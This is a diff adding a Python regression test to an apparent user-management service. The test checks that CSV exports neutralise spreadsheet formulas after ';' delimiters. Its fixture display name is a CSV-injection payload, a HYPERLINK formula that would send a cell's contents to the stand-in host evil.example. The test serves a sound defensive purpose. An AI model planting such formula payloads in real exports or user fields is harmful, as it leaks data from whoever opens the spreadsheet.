@@ -219,3 +219,28 @@ def test_export_guards_formulas_and_round_trips(server, sink, admin, make_resetd
     keys = ("display_name", "email", "alternate_email", "locale", "role")
     assert {n: tuple(u[k] for k in keys) for n, u in theirs.items()} == \
         {n: tuple(u[k] for k in keys) for n, u in mine.items()}
+
+
+def test_export_guards_formulas_after_a_semicolon(server, sink, admin, make_resetd):
+    """Excel in a comma-decimal locale (tr-TR, the guide's own example) opens a
+    .csv with ';' as the delimiter: a display name a plain user gives themselves,
+    "Ay;=HYPERLINK(...)", became a cell starting with '=' in the admin's export.
+    Every ';'-piece is guarded, and the file still imports as it was."""
+    pw = strong_password()
+    uid = admin.create_user("semi.self", password=pw).json["user"]["id"]
+    me = server.client()
+    me.must_sign_in("semi.self", pw)
+    planted = 'Ay;=HYPERLINK("http://evil.example/?"&A1,"x");@SUM(1+1)'
+    r = me.patch("users/%d" % uid, {"display_name": planted})
+    assert r.status == 200, r
+    admin.create_user("semi.quote", display_name="'=already;'+quoted")
+    text = admin.get("users/export?q=semi.").body.decode("utf-8-sig")
+    for line in text.split("\r\n")[1:]:
+        for piece in line.split(";"):
+            assert piece[:1] not in ("=", "+", "-", "@"), "formula cell for a ';' reader: %r in %r" % (piece, line)
+    other = make_resetd(relay_port=sink.port, sub="other")
+    oa = other.admin()
+    r = import_csv(oa, text, delivery="password")
+    assert r.status == 201, r
+    theirs = {u["username"]: u["display_name"] for u in oa.list_users(q="semi.", limit=200)["users"]}
+    assert theirs == {"semi.self": planted, "semi.quote": "'=already;'+quoted"}, theirs
